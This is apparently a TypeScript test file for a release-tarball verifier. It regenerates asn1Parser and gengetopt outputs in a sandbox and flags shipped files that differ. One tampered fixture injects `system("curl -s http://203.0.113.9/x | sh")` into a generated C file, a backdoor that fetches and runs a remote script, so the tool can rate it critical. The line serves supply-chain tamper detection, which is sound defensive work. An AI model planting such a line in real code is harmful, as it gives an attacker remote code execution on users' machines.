/**
 * Files written by a packaged generator tool, proved by running the system's tool in the sandbox
 * (src/regenerate/generators.ts). A git repository built here has the layouts of the real releases:
 *   - p11-kit's suffix rule `.asn.asn.h: $(ASN1PARSER) -o $@ $<` (common/) and libtasn1's explicit rule running
 *     the project's own build, `$(top_builddir)/src/asn1Parser$(EXEEXT) $^ -o $@` (tests/) — asn1Parser's
 *     output names no version;
 *   - libidn2's pattern rule `idn2_cmd%c idn2_cmd%h: idn2.ggo` running gengetopt, then two `perl -pi -e` edits
 *     of the .c — gengetopt's banner names its version.
 * The release tarball (GNU tar) ships what the real tools made from the tracked inputs (run here, as the
 * maintainer's build did). Needs libtasn1-bin (asn1Parser) and gengetopt: scripts/install-system-deps.sh.
 * Tampered twins — one changed line in each output — stay high (critical with a construct); a banner naming
 * another gengetopt version, an unread recipe command, regeneration off: the file stays unexplained and says why.
 */
import { execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { formatFinding } from '../../src/core/codes.js';
import type { Finding } from '../../src/core/findings.js';
import { applyPostEdit, literalSubstitution } from '../../src/regenerate/generators.js';
import { verify } from '../../src/verify.js';
import { makeTar } from '../helpers/archives.js';
import { makeRepo, writeFiles } from '../helpers/git.js';
import { tempDir } from '../helpers/tmp.js';
import { findingAt } from '../helpers/findings.js';

const root = tempDir('distdiff-generators-');
const repoDir = join(root, 'repo');
const cache = join(root, 'cache');

const BASIC_ASN = `BASIC { }

DEFINITIONS IMPLICIT TAGS ::=

BEGIN

Any ::= ANY

ObjectIdentifier ::= OBJECT IDENTIFIER

Flag ::= BOOLEAN

END
`;
const TREE_ASN = `TEST_TREE { }

DEFINITIONS IMPLICIT TAGS ::=

BEGIN

Sequence1 ::= SEQUENCE {
  int1   INTEGER,
  int2   INTEGER OPTIONAL,
  str    OCTET STRING
}

END
`;
const COMMON_AM = `SUFFIXES = .asn .asn.h
.asn.asn.h:
\t$(AM_V_GEN)$(ASN1PARSER) -o $@ $<

BUILT_SOURCES = basic.asn.h
EXTRA_DIST = basic.asn
`;
const TESTS_AM = `BUILT_SOURCES = tree_asn1_tab.h
tree_asn1_tab.h: $(srcdir)/tree.asn
\t$(top_builddir)/src/asn1Parser$(EXEEXT) $^ -o $@
`;
const IDN_GGO = `purpose "Internationalized Domain Name (IDNA2008) convert STRINGS, or standard input."
usage "idn2 [OPTION]... [STRINGS]..."

option "debug" - "Print debugging information" flag off
option "quiet" - "Silent operation" flag off
option "lookup" l "Lookup domain name (default)" flag off
`;
const SRC_AM = `bin_PROGRAMS = idn2
idn2_SOURCES = idn2.c idn2_cmd.c idn2_cmd.h
EXTRA_DIST = idn2.ggo

idn2_cmd%c idn2_cmd%h: idn2.ggo
\tgengetopt --unamed-opts --no-handle-version --no-handle-help \\
\t\t--set-package="idn2" \\
\t\t--input $< --file-name idn2_cmd
\tperl -pi -e 's/\\[OPTIONS\\]/\\[OPTION\\]/g' idn2_cmd.c
\tperl -pi -e 's/\\[FILES\\]/\\[STRING\\]/g' idn2_cmd.c
`;
const TRACKED: Record<string, string> = {
  'README': 'demo\n',
  'common/Makefile.am': COMMON_AM,
  'common/basic.asn': BASIC_ASN,
  'tests/Makefile.am': TESTS_AM,
  'tests/tree.asn': TREE_ASN,
  'src/Makefile.am': SRC_AM,
  'src/idn2.ggo': IDN_GGO,
  'src/idn2.c': 'int main(void) { return 0; }\n',
};

/** What the maintainer's build wrote, made here by the real tools. */
const made: Record<string, string> = {};
const run = (cwd: string, argv: string[]) => execFileSync(argv[0]!, argv.slice(1), { cwd, env: { PATH: '/usr/local/bin:/usr/bin:/bin', LC_ALL: 'C' }, stdio: ['ignore', 'pipe', 'pipe'] });
const gengetoptVersion = /^GNU gengetopt (\S+)/m.exec(execFileSync('gengetopt', ['--version']).toString())![1]!;
const asn1Version = /asn1Parser \(libtasn1\) (\S+)/.exec(execFileSync('asn1Parser', ['--version']).toString())![1]!;

beforeAll(() => {
  const repo = makeRepo(repoDir);
  repo.commit(TRACKED);
  repo.tag('v1.0', { message: 'demo 1.0' });
  const work = join(root, 'work');
  writeFiles(work, TRACKED);
  run(join(work, 'common'), ['asn1Parser', '-o', 'basic.asn.h', 'basic.asn']);
  run(join(work, 'tests'), ['asn1Parser', './tree.asn', '-o', 'tree_asn1_tab.h']);
  run(join(work, 'src'), ['gengetopt', '--unamed-opts', '--no-handle-version', '--no-handle-help', '--set-package=idn2', '--input', 'idn2.ggo', '--file-name', 'idn2_cmd']);
  run(join(work, 'src'), ['perl', '-pi', '-e', 's/\\[OPTIONS\\]/\\[OPTION\\]/g', 'idn2_cmd.c']);
  run(join(work, 'src'), ['perl', '-pi', '-e', 's/\\[FILES\\]/\\[STRING\\]/g', 'idn2_cmd.c']);
  for (const p of ['common/basic.asn.h', 'tests/tree_asn1_tab.h', 'src/idn2_cmd.c', 'src/idn2_cmd.h']) made[p] = readFileSync(join(work, p), 'latin1');
}, 120_000);

let n = 0;
/** A release tarball: the tag's files, the generated files (as made, or as changed) and any extra ones. */
function release(changes: Record<string, string> = {}, tracked: Record<string, string> = {}): string {
  const dir = join(root, `r${++n}`, 'demo-1.0');
  for (const [p, c] of Object.entries({ ...TRACKED, ...tracked, ...made, ...changes })) {
    mkdirSync(join(dir, p, '..'), { recursive: true });
    writeFileSync(join(dir, p), c, 'latin1');
  }
  return makeTar(dir, { compress: 'gzip', out: join(root, `r${n}`, 'demo-1.0.tar.gz') });
}
const findingsOf = async (tar: string, repo = repoDir, regenerate: 'auto' | 'off' = 'auto') => {
  const r = await verify({ tarball: tar, repo, tag: 'v1.0', cacheDir: cache, regenerate });
  const at = (p: string) => findingAt(r.findings, p);
  return { r, at };
};

describe('literal substitutions of a recipe', () => {
  it('reads perl/sed s/A/B/g with escaped punctuation as literal text, and refuses regex operators and back-references', () => {
    expect(literalSubstitution('s/\\[OPTIONS\\]/\\[OPTION\\]/g')).toEqual({ from: '[OPTIONS]', to: '[OPTION]', global: true });
    expect(literalSubstitution('s/fprintf/wget_fprintf/g')).toEqual({ from: 'fprintf', to: 'wget_fprintf', global: true });
    expect(literalSubstitution('s/a.b/c/')).toBeUndefined();
    expect(literalSubstitution('s/\\(x\\)/\\1/g')).toBeUndefined();
    expect(literalSubstitution('s/x/&y/g')).toBeUndefined();
    expect(literalSubstitution('s/x/$1/g')).toBeUndefined();
    expect(literalSubstitution('s/\\w+/y/g')).toBeUndefined();
    expect(literalSubstitution('y/abc/def/')).toBeUndefined();
    // sed's BRE groups and GNU extensions are operators there (literal punctuation in perl)
    expect(literalSubstitution('s/a\\(b\\)/X/', 'sed')).toBeUndefined();
    expect(literalSubstitution('s/a\\+/X/', 'sed')).toBeUndefined();
    expect(literalSubstitution('s/a\\(b\\)/X/', 'perl')).toEqual({ from: 'a(b)', to: 'X', global: false });
    expect(literalSubstitution('s/x\\*/y/g', 'sed')).toEqual({ from: 'x*', to: 'y', global: true });
  });
  it('applies one on every occurrence (g) or the first of each line', () => {
    expect(applyPostEdit('a[X] b[X]\n[X]', { command: '', file: '', from: '[X]', to: '[Y]', global: true })).toBe('a[Y] b[Y]\n[Y]');
    expect(applyPostEdit('a[X] b[X]\n[X]', { command: '', file: '', from: '[X]', to: '$&', global: false })).toBe('a$& b[X]\n$&');
  });
});

describe('generator tools run in the sandbox on the tracked input', () => {
  it('the fixture: the perl edits changed the gengetopt output, asn1Parser named each table after its file', () => {
    expect(made['src/idn2_cmd.c']).toContain('idn2 [OPTION]... [STRINGS]...');
    expect(made['common/basic.asn.h']).toContain('const asn1_static_node basic_asn1_tab[] = {');
    expect(made['tests/tree_asn1_tab.h']).toContain('const asn1_static_node tree_asn1_tab[] = {');
    expect(made['src/idn2_cmd.h']).toContain(`generated by GNU Gengetopt version ${gengetoptVersion}`);
  });

  it('each output reproduced: GENERATED_TOOL_PROVED (info) with tool, version, input, rule and edits; the release is explained', async () => {
    const { r, at } = await findingsOf(release());
    expect(at('common/basic.asn.h')).toMatchObject({
      code: 'GENERATED_TOOL_PROVED',
      severity: 'info',
      evidence: { tool: 'asn1Parser', version: asn1Version, namesNoVersion: true, source: 'common/basic.asn', rule: 'common/Makefile.am', ruleCommand: '$(AM_V_GEN)$(ASN1PARSER) -o $@ $<', command: ['asn1Parser', '-o', 'basic.asn.h', 'basic.asn'], cwd: 'common', postEdits: [] },
    });
    // The rule runs the project's own build (./src/asn1Parser): the system's packaged asn1Parser runs instead.
    // `$^` of `$(srcdir)/tree.asn` is `tree.asn`: GNU make drops the leading `./`
    expect(at('tests/tree_asn1_tab.h')).toMatchObject({ code: 'GENERATED_TOOL_PROVED', evidence: { tool: 'asn1Parser', source: 'tests/tree.asn', command: ['asn1Parser', 'tree.asn', '-o', 'tree_asn1_tab.h'], cwd: 'tests' } });
    const c = at('src/idn2_cmd.c');
    expect(c).toMatchObject({
      code: 'GENERATED_TOOL_PROVED',
      severity: 'info',
      evidence: {
        tool: 'gengetopt',
        version: gengetoptVersion,
        source: 'src/idn2.ggo',
        rule: 'src/Makefile.am',
        command: ['gengetopt', '--unamed-opts', '--no-handle-version', '--no-handle-help', '--set-package=idn2', '--input', 'idn2.ggo', '--file-name', 'idn2_cmd'],
        cwd: 'src',
        postEdits: ["perl -pi -e 's/\\[OPTIONS\\]/\\[OPTION\\]/g' idn2_cmd.c", "perl -pi -e 's/\\[FILES\\]/\\[STRING\\]/g' idn2_cmd.c"],
        outputs: ['src/idn2_cmd.c', 'src/idn2_cmd.h'],
      },
    });
    expect(c.evidence).not.toHaveProperty('namesNoVersion');
    // what the comparison saw stays on the replacing finding
    expect(c).toMatchObject({ change: 'tarball-only', tarballMode: '100644' });
    expect(c.tarballOid).toMatch(/^[0-9a-f]{40}$/);
    expect(at('src/idn2_cmd.h')).toMatchObject({ code: 'GENERATED_TOOL_PROVED', evidence: { tool: 'gengetopt', postEdits: [] } });
    expect(formatFinding(c)).toContain(`reproduced by the system's gengetopt ${gengetoptVersion} from src/idn2.ggo`);
    expect(r.findings.filter((f) => f.severity === 'high' || f.severity === 'critical')).toEqual([]);
  }, 240_000);

  it('tampered twins stay high: one changed line in each output (critical when it carries a construct)', async () => {
    const { r, at } = await findingsOf(
      release({
        'common/basic.asn.h': made['common/basic.asn.h']!.replace('{ "Flag", 4, NULL }', '{ "Flag", 3, NULL }'),
        'tests/tree_asn1_tab.h': made['tests/tree_asn1_tab.h']!.replace('{ "int2", ', '{ "int3", '),
        'src/idn2_cmd.c': made['src/idn2_cmd.c']!.replace('#include "idn2_cmd.h"', '#include "idn2_cmd.h"\nstatic int hook = system("curl -s http://203.0.113.9/x | sh");'),
        'src/idn2_cmd.h': made['src/idn2_cmd.h']!.replace('int debug_flag;', 'int debug_flag; int backdoor_flag;'),
      }),
    );
    expect(made['common/basic.asn.h']).toContain('{ "Flag", 4, NULL }');
    expect(made['src/idn2_cmd.h']).toContain('int debug_flag;');
    for (const p of ['common/basic.asn.h', 'tests/tree_asn1_tab.h']) {
      const f = at(p);
      expect(f).toMatchObject({ code: 'GENERATED_TOOL_MISMATCH', severity: 'high', evidence: { tool: 'asn1Parser', namesNoVersion: true, differingLines: 1 } });
      expect(formatFinding(f)).toContain('the file names no asn1Parser version');
    }
    const c = at('src/idn2_cmd.c');
    expect(c).toMatchObject({ code: 'GENERATED_TOOL_MISMATCH', severity: 'critical', evidence: { tool: 'gengetopt', differingLines: 1 } });
    if (c.diff?.kind !== 'text') throw new Error('no text diff');
    expect(c.diff.unified).toContain('+static int hook = system("curl -s http://203.0.113.9/x | sh");');
    expect(at('src/idn2_cmd.h')).toMatchObject({ code: 'GENERATED_TOOL_MISMATCH', severity: 'high', evidence: { differingLines: 1 } });
    expect(r.verdict).toBe('different');
  }, 240_000);

  it("the recipe's perl edit left out of the shipped file: a mismatch, not proved by the tool alone", async () => {
    const unedited = made['src/idn2_cmd.c']!.replace('idn2 [OPTION]... [STRINGS]...', 'idn2 [OPTIONS]... [STRINGS]...');
    expect(unedited).not.toBe(made['src/idn2_cmd.c']);
    const { at } = await findingsOf(release({ 'src/idn2_cmd.c': unedited }));
    expect(at('src/idn2_cmd.c')).toMatchObject({ code: 'GENERATED_TOOL_MISMATCH', severity: 'high' });
  }, 240_000);

  it('a banner naming another gengetopt version: not run, the file stays high saying which version each has', async () => {
    const other = (s: string) => s.replace(`gengetopt version ${gengetoptVersion}`, 'gengetopt version 2.19').replace(`Gengetopt version ${gengetoptVersion}`, 'Gengetopt version 2.19');
    const { at } = await findingsOf(release({ 'src/idn2_cmd.c': other(made['src/idn2_cmd.c']!), 'src/idn2_cmd.h': other(made['src/idn2_cmd.h']!) }));
    const f = at('src/idn2_cmd.h');
    expect(f).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high', evidence: { generatorProof: { why: 'version-unavailable', tool: 'gengetopt', wanted: '2.19', available: gengetoptVersion } } });
    expect(formatFinding(f)).toContain(`gengetopt output, not proved: gengetopt ${gengetoptVersion} here, the file names 2.19`);
  }, 240_000);

  it('a recipe with a command outside the forms read (a tracked script run on the output): nothing is run, high, the command named', async () => {
    const repo2 = join(root, 'repo-script');
    const am = TESTS_AM + '\t./fixup.sh $@\n';
    const repo = makeRepo(repo2);
    repo.commit({ ...TRACKED, 'tests/Makefile.am': am, 'tests/fixup.sh': '#!/bin/sh\n' });
    repo.tag('v1.0', { message: 'demo 1.0' });
    const { at } = await findingsOf(release({}, { 'tests/Makefile.am': am, 'tests/fixup.sh': '#!/bin/sh\n' }), repo2);
    expect(at('tests/tree_asn1_tab.h')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high', evidence: { generatorProof: { why: 'rule-unsupported', tool: 'asn1Parser', fragment: 'tests/Makefile.am', command: './fixup.sh $@' } } });
    // the other outputs are unaffected
    expect(at('common/basic.asn.h')).toMatchObject({ code: 'GENERATED_TOOL_PROVED' });
  }, 240_000);

  it('regeneration off: nothing run, the files stay high saying so', async () => {
    const { at } = await findingsOf(release(), repoDir, 'off');
    expect(at('common/basic.asn.h')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high', evidence: { generatorProof: { why: 'regeneration-off', tool: 'asn1Parser' } } });
  }, 240_000);
});
